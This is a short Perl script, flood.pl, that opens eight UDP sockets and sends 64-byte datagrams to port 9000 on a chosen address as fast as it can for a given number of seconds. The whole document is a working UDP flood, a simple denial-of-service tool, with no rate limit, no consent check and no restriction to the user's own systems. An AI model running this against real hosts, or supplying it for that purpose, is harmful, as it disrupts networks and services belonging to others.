# Datagrams of 64 bytes, of eight flows, to a port where nobody listens, as many as go:
# perl flood.pl ADDRESS SECONDS
use Socket;
my ($host, $seconds) = @ARGV;
my $to = sockaddr_in(9000, inet_aton($host));
my @flows = map { socket(my $s, PF_INET, SOCK_DGRAM, 0) or die $!; $s } 1 .. 8;
my $end = time + $seconds;
while (time < $end) {
    for (1 .. 50) { send $_, 'x' x 64, 0, $to for @flows }
}
